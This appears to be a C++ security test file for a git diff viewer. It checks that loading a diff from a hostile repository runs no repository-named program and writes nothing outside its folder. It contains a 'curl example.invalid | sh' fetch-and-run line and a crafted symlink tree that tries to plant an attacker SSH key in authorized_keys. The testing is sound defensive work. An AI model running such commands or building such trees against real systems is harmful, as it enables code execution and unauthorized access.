// Inspecting a file must never run a program that the inspected repository names. Each case first
// proves that plain `git diff HEAD` does run the repository's program, then that the loader does not
// and still returns git's diff of the file.

#include "viewer/GitDiffLoader.h"

#include "HostileRepos.h"
#include "QtPrinters.h"

#include <QDir>
#include <QFile>

#include <gtest/gtest.h>

#include <sys/stat.h>

namespace {

TEST(ViewerHostileRepo, LoaderRunsNoRepositoryProgramAndStillShowsTheDiff)
{
    for (const HostileCase& c : hostileCases()) {
        SCOPED_TRACE(c.name);
        const HostileSetup setup = makeHostileRepo(c);
        const QByteArray expected = setup.expectedDiff();

        setup.clearMarker();
        plainGitDiff(setup.file);
        ASSERT_TRUE(setup.markerExists())
            << "plain git did not run the planted program: the case proves nothing";
        setup.clearMarker();

        const QString diff = loadGitDiff(setup.file);
        EXPECT_FALSE(setup.markerExists());
        EXPECT_EQ(diff.toUtf8().toStdString(), expected.toStdString());
        if (c.kind != HostileKind::IndexHook && c.kind != HostileKind::PromisorFetch)
            EXPECT_TRUE(diff.contains(QStringLiteral("+curl example.invalid | sh")));
    }
}

// HEAD holds a symbolic link `x` to a folder outside and a folder `x/` of the same name (git fsck
// calls it a duplicate entry; clone and fetch take it). Recreating `x` as a link and then writing
// `x/authorized_keys` would write outside the scratch folder.
TEST(ViewerHostileRepo, TreeWithALinkAndAFolderOfOneNameWritesNothingOutside)
{
    QTemporaryDir outside;
    const QString decoy = outside.path() + QStringLiteral("/authorized_keys");
    {
        QFile f(decoy);
        ASSERT_TRUE(f.open(QIODevice::WriteOnly));
        f.write("ssh-ed25519 AAAA owner\n");
    }
    TestRepo repo;
    repo.init();
    const QStringList blobIn = {QStringLiteral("hash-object"), QStringLiteral("-w"),
                                QStringLiteral("--stdin")};
    const QByteArray key = repo.plumb(blobIn, "ssh-ed25519 AAAA attacker\n");
    const QByteArray link = repo.plumb(blobIn, QFile::encodeName(outside.path()));
    const QByteArray sub =
        repo.plumb({QStringLiteral("mktree")}, "100644 blob " + key + "\tauthorized_keys\n");
    const QByteArray tree =
        repo.plumb({QStringLiteral("mktree")}, "120000 blob " + link + "\tx\n040000 tree " + sub + "\tx\n");
    const QByteArray commit = repo.plumb({QStringLiteral("commit-tree"), QString::fromLatin1(tree),
                                          QStringLiteral("-m"), QStringLiteral("c")});
    repo.plumb({QStringLiteral("update-ref"), QStringLiteral("HEAD"), QString::fromLatin1(commit)});

    const QString diff = loadGitDiff(repo.path(QStringLiteral("x")));
    QFile f(decoy);
    ASSERT_TRUE(f.open(QIODevice::ReadOnly));
    EXPECT_EQ(f.readAll(), QByteArray("ssh-ed25519 AAAA owner\n"));
    EXPECT_EQ(QDir(outside.path()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden),
              QStringList{QStringLiteral("authorized_keys")});
    EXPECT_EQ(diff, nestedTreeNote(QStringLiteral("x")));
}

// A .gitattributes that is a FIFO holds `git check-attr` until someone writes to it; the diff must
// still come, without the attributes, rather than time out as a whole.
TEST(ViewerHostileRepo, AttributesFileThatIsAFifoDoesNotHoldUpTheDiff)
{
    TestRepo repo;
    repo.init();
    repo.write(QStringLiteral("notes.txt"), "one\n");
    repo.commitAll();
    repo.write(QStringLiteral("notes.txt"), "one\ntwo\n");
    ASSERT_EQ(::mkfifo(QFile::encodeName(repo.path(QStringLiteral(".gitattributes"))).constData(), 0600), 0);
    EXPECT_TRUE(
        loadGitDiff(repo.path(QStringLiteral("notes.txt"))).endsWith(QStringLiteral("\n one\n+two\n")));
}

} // namespace
